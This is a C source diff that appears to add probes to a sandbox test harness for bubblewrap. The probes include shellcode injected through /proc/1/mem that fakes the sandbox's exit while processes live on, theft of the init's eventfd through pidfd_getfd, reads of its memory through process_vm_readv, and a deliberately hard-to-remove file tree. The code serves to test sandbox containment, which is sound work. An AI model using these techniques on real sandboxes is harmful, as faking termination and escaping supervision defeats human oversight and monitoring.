@@ -31,6 +31,7 @@
 #include <mqueue.h>
 #include <sys/xattr.h>
 #include <sys/syscall.h>
+#include <sys/uio.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <stddef.h>
@@ -113,6 +114,7 @@ static int dump(const char *path) {
     for (ssize_t i = 0; i < n; i++) if (buf[i] == 0 || buf[i] == '\n') buf[i] = ' ';
     buf[n > 0 ? n : 0] = 0;
     printf("DUMP %s %s\n", path, buf);
+    fflush(stdout);
     return 0;
 }
 
@@ -277,6 +279,135 @@ static int identity(void) {
 
 static int new_userns(void) {
     return errno_report("new-user-namespace", unshare(CLONE_NEWUSER));
+}
+
+/* The init's eventfd: bwrap's outer process takes "value - 1" written there
+ * as the program's exit code and exits with it. */
+static int init_eventfd(void) {
+    int evfd = -1;
+    DIR *dir = opendir("/proc/1/fd");
+    if (!dir) return -1;
+    for (struct dirent *e; (e = readdir(dir));) {
+        char link[300], target[128] = {0};
+        snprintf(link, sizeof link, "/proc/1/fd/%s", e->d_name);
+        if (readlink(link, target, sizeof target - 1) > 0 && strstr(target, "eventfd")) evfd = atoi(e->d_name);
+    }
+    closedir(dir);
+    return evfd;
+}
+
+/* Rewrites the namespace init (bwrap's pid 1) through /proc/1/mem: at the
+ * pc where its wait() returns, code that clears its parent-death signal,
+ * writes "exited 0" to the eventfd bwrap's outer process waits on, then
+ * pauses forever. A reparented orphan's exit wakes it. bwrap then exits 0
+ * while the init and this program live on. `mode` "closed" ends this
+ * program's streams (so the host's readers see EOF); "open" keeps them. */
+static int fake_exit(const char *mode) {
+#if defined(__x86_64__)
+    int evfd = init_eventfd();
+    if (evfd < 0) return report("fake-exit", 1, "no eventfd readable in the init");
+    unsigned long nr, arg[6], sp, pc;
+    int fields = 0;
+    /* Until the init is blocked in its wait() ("running" while it starts up). */
+    for (int tries = 0; tries < 500 && fields != 9; tries++) {
+        FILE *sys = fopen("/proc/1/syscall", "r");
+        if (!sys) return errno_report("fake-exit", -1);
+        fields = fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc);
+        fclose(sys);
+        if (fields != 9) usleep(10000);
+    }
+    if (fields != 9) return report("fake-exit", 1, "the init is not blocked in a call");
+    unsigned char code[] = {
+        0xbf, 0x01, 0, 0, 0,          /* mov edi, PR_SET_PDEATHSIG */
+        0x31, 0xf6,                   /* xor esi, esi */
+        0xb8, 0x9d, 0, 0, 0,          /* mov eax, SYS_prctl */
+        0x0f, 0x05,                   /* syscall */
+        0x6a, 0x01,                   /* push 1 ("exit code 0") */
+        0xbf, 0, 0, 0, 0,             /* mov edi, evfd (patched) */
+        0x48, 0x89, 0xe6,             /* mov rsi, rsp */
+        0xba, 0x08, 0, 0, 0,          /* mov edx, 8 */
+        0xb8, 0x01, 0, 0, 0,          /* mov eax, SYS_write */
+        0x0f, 0x05,                   /* syscall */
+        0xb8, 0x22, 0, 0, 0,          /* loop: mov eax, SYS_pause */
+        0x0f, 0x05,                   /* syscall */
+        0xeb, 0xf7,                   /* jmp loop */
+    };
+    memcpy(code + 17, &evfd, 4);
+    int mem = open("/proc/1/mem", O_RDWR);
+    if (mem < 0) return errno_report("fake-exit", -1);
+    if (pwrite(mem, code, sizeof code, (off_t)pc) != (ssize_t)sizeof code) return errno_report("fake-exit", -1);
+    close(mem);
+    pid_t middle = fork();
+    if (middle == 0) {
+        if (fork() == 0) { usleep(100000); _exit(0); } /* orphaned to the init, then exits */
+        _exit(0);
+    }
+    waitpid(middle, NULL, 0);
+    report("fake-exit", 1, "init rewritten; the host checks that nothing outlives wait()");
+    if (!strcmp(mode, "closed")) {
+        int null = open("/dev/null", O_RDWR);
+        dup2(null, 1);
+        dup2(null, 2);
+        close(3);
+    }
+    for (;;) pause();
+#else
+    (void)mode;
+    return report("fake-exit", 1, "no shellcode for this architecture");
+#endif
+}
+
+/* Take the init's eventfd with pidfd_getfd: the reach of ptrace without it. */
+static int pidfd_getfd_init(void) {
+    int evfd = init_eventfd();
+    if (evfd < 0) return report("pidfd-getfd", 1, "no eventfd readable in the init");
+    int pidfd = syscall(SYS_pidfd_open, 1, 0);
+    if (pidfd < 0) return errno_report("pidfd-getfd", -1);
+    return errno_report("pidfd-getfd", syscall(SYS_pidfd_getfd, pidfd, evfd, 0));
+}
+
+/* Read the init's memory with process_vm_readv (its stack, from /proc). */
+static int vm_read_init(void) {
+    char buf[16];
+    unsigned long nr, arg[6], sp = 0, pc;
+    FILE *sys = fopen("/proc/1/syscall", "r");
+    if (sys) {
+        if (fscanf(sys, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &arg[0], &arg[1], &arg[2], &arg[3], &arg[4], &arg[5], &sp, &pc) != 9) sp = 0;
+        fclose(sys);
+    }
+    if (!sp) return report("process-vm-readv", 1, "no stack pointer of the init");
+    struct iovec local = {buf, sizeof buf}, remote = {(void *)sp, sizeof buf};
+    return errno_report("process-vm-readv", syscall(SYS_process_vm_readv, 1, &local, 1, &remote, 1, 0));
+}
+
+/* Leaves the hardest tree it can for the host to remove, in the current
+ * directory: a 000-mode and a 0555 directory with content, a FIFO, a bound
+ * socket, symlinks to / and .., a hardlink, 1000 files side by side, then
+ * `mkdir d; chdir d` `levels` times. */
+static int litter(const char *levels) {
+    mkdir("locked", 0755); mkdir("locked/inner", 0755);
+    close(open("locked/inner/file", O_WRONLY | O_CREAT, 0644));
+    chmod("locked", 0);
+    mkdir("readonly", 0755); mkdir("readonly/sub", 0755);
+    close(open("readonly/sub/file", O_WRONLY | O_CREAT, 0644));
+    chmod("readonly/sub", 0555); chmod("readonly", 0555);
+    mkfifo("fifo", 0600);
+    int sock = socket(AF_UNIX, SOCK_STREAM, 0);
+    struct sockaddr_un addr = {.sun_family = AF_UNIX, .sun_path = "sock"};
+    bind(sock, (void *)&addr, sizeof addr);
+    symlink("/", "to-root"); symlink("..", "to-parent");
+    close(open("file", O_WRONLY | O_CREAT, 0644)); link("file", "hardlink");
+    mkdir("wide", 0755);
+    for (int i = 0; i < 1000; i++) {
+        char name[32];
+        snprintf(name, sizeof name, "wide/%d", i);
+        close(open(name, O_WRONLY | O_CREAT, 0644));
+    }
+    int n = atoi(levels), made = 0;
+    for (; made < n; made++) if (mkdir("d", 0755) != 0 || chdir("d") != 0) break;
+    char detail[64];
+    snprintf(detail, sizeof detail, "nested=%d", made);
+    return report("litter", 1, detail); /* the host judges its teardown */
 }
 
 /* Fill each directory with 1 MiB writes until an error (at most 512 MiB
@@ -517,6 +648,11 @@ int main(int argc, char **argv) {
         return report("inotify-available", fd >= 0, fd >= 0 ? "got an instance" : strerror(errno));
     }
     if (!strcmp(a, "dump")) return dump(arg);
+    if (!strcmp(a, "dump-then-hang")) { dump(arg); for (;;) pause(); }
+    if (!strcmp(a, "pidfd-getfd")) return pidfd_getfd_init();
+    if (!strcmp(a, "process-vm-readv")) return vm_read_init();
+    if (!strcmp(a, "litter")) { litter(arg); if (argc > 3) for (;;) pause(); return 0; }
+    if (!strcmp(a, "fake-exit")) return fake_exit(arg);
     if (!strcmp(a, "hang")) { report("hang", 1, "started"); for (;;) pause(); }
     if (!strcmp(a, "write-then-hang")) { write_path(arg, arg); for (;;) pause(); }
     if (!strcmp(a, "exit")) return atoi(arg);
